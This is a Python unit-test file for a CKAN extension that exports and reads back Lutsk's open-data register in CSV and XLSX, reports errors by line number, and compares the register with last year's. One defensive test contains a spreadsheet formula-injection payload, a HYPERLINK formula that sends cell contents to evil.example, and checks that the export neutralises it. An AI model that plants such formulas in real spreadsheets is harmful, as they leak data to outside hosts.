"""The register of datasets in the national portal's columns, read back with line-numbered
errors, and its difference from last year's. Plain unit tests, no CKAN."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from ckanext.lutsk.domain import dataset_register
from ckanext.lutsk.domain.dataset_register import COLUMNS, RegisterError

RECORDS = [
    {
        "name": "budget",
        "title": "Бюджет",
        "notes": "Показники бюджету",
        "update_frequency": "once a month",
        "tags": [{"name": "бюджет"}, {"name": "фінанси"}],
        "purpose_of_collecting_information": "Бюджетний кодекс",
        "maintainer": "Олена Коваль",
        "maintainer_email": "finance@lutskrada.gov.ua",
        "body": "finance-budget",
        "resources": [
            {"format": "csv"},
            {"format": "XLSX"},
            {"format": "CSV"},
            {"format": "JSON", "structure": "true"},
        ],
    },
    {"name": "draft", "private": True, "body": "finance-budget"},
    {"name": "addresses", "title": "Адресний реєстр", "body": "urban-planning-architecture", "resources": []},
]


def _rows():
    return dataset_register.register_rows(
        RECORDS,
        site_url="https://data.lutskrada.gov.ua/",
        frequency_label={"once a month": "Щомісяця"}.__getitem__,
        publisher=lambda body: ({"finance-budget": "Департамент фінансів"}.get(body, body), "44106679"),
    )


def test_rows_in_the_national_columns():
    rows = _rows()
    assert [r["identifier"] for r in rows] == ["addresses", "budget"], "public only, by identifier"
    budget = rows[1]
    assert list(budget) == list(COLUMNS)
    assert budget == {
        "identifier": "budget",
        "title": "Бюджет",
        "description": "Показники бюджету",
        "accrualPeriodicity": "Щомісяця",
        "keyword": "бюджет, фінанси",
        "purpose": "Бюджетний кодекс",
        "landingPage": "https://data.lutskrada.gov.ua/dataset/budget",
        "distributionFormat": "CSV, XLSX",
        "publisherName": "Департамент фінансів",
        "publisherIdentifier": "44106679",
        "contactPointFn": "Олена Коваль",
        "contactPointHasEmail": "finance@lutskrada.gov.ua",
    }
    assert rows[0]["accrualPeriodicity"] == "" and rows[0]["distributionFormat"] == ""


def test_csv_and_xlsx_round_trip():
    rows = _rows()
    data = dataset_register.to_csv(rows)
    assert data.startswith(b"\xef\xbb\xbf"), "a BOM, so that Excel reads the Cyrillic"
    table = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert table[0] == list(COLUMNS)
    assert dataset_register.read_register(data, "r.csv") == rows
    assert dataset_register.read_register(b"\xef\xbb\xbf" + data, "r.csv") == rows, "a BOM from Excel is fine"
    xlsx = dataset_register.to_xlsx(rows)
    assert dataset_register.read_register(xlsx, "r.xlsx") == rows
    assert load_workbook(io.BytesIO(xlsx)).sheetnames == ["Реєстр"]


def test_previous_register_errors_name_their_lines():
    header = ",".join(COLUMNS)
    text = f'{header}\nbudget,Бюджет\n,Без ідентифікатора\n"multi\nline",x\nbudget,Ще раз\n'
    with pytest.raises(RegisterError) as err:
        dataset_register.read_register(text.encode(), "2025.csv")
    assert err.value.problems == (
        (3, "identifier is empty"),
        (6, "identifier 'budget' repeats line 2"),
    )
    assert "2 problems in 2025.csv" in str(err.value)
    with pytest.raises(RegisterError, match="line 1: no `identifier` column"):
        dataset_register.read_register("назва,опис\nx,y\n".encode(), "old.csv")
    with pytest.raises(RegisterError, match="unknown columns: colour"):
        dataset_register.read_register(f"{header},colour\nbudget,1\n".encode(), "old.csv")
    with pytest.raises(RegisterError, match="not UTF-8"):
        dataset_register.read_register("identifier\nбюджет\n".encode("cp1251"), "old.csv")
    with pytest.raises(RegisterError, match="not a readable XLSX"):
        dataset_register.read_register(b"PK\x03\x04broken", "old.xlsx")
    assert dataset_register.read_register(b"publisherPrefLabel,identifier\nX,a\n", "alias.csv") == [
        {"publisherName": "X", "identifier": "a"}
    ]


def test_difference_from_last_year():
    current = _rows()
    previous = [
        {**current[1], "accrualPeriodicity": "Щокварталу", "keyword": "бюджет,  фінанси"},
        {"identifier": "old-dataset", "title": "Старий набір"},
    ]
    diff = dataset_register.diff_registers(previous, current)
    assert [r["identifier"] for r in diff.added] == ["addresses"]
    assert [r["identifier"] for r in diff.removed] == ["old-dataset"]
    assert diff.changed == (("budget", {"accrualPeriodicity": ("Щокварталу", "Щомісяця")}),), (
        "whitespace differences are not changes"
    )
    assert not dataset_register.diff_registers(current, current)
    changes = list(csv.reader(io.StringIO(dataset_register.diff_to_csv(diff).decode("utf-8-sig"))))
    assert changes[0] == ["change", "identifier", "field", "before", "after"]
    assert ["changed", "budget", "accrualPeriodicity", "Щокварталу", "Щомісяця"] in changes
    wb = load_workbook(io.BytesIO(dataset_register.to_xlsx(current, diff)))
    assert wb.sheetnames == ["Реєстр", "Додано", "Вилучено", "Змінено"]
    assert list(wb["Змінено"].values)[1] == ("budget", "accrualPeriodicity", "Щокварталу", "Щомісяця")


def test_formula_titles_are_inert_and_read_back():
    evil = '=HYPERLINK("https://evil.example/?x="&A2,"Open")'
    rows = [{**_rows()[0], "title": evil, "description": "a\x0bb"}]
    data = dataset_register.to_csv(rows)
    table = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert table[1][COLUMNS.index("title")] == "'" + evil
    assert table[1][COLUMNS.index("description")] == "ab"
    xlsx = dataset_register.to_xlsx(rows)
    ws = load_workbook(io.BytesIO(xlsx)).worksheets[0]
    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)
    assert ws.cell(2, COLUMNS.index("title") + 1).value == "'" + evil
    for data_, name in ((data, "r.csv"), (xlsx, "r.xlsx")):
        read = dataset_register.read_register(data_, name)
        assert read[0]["title"] == evil
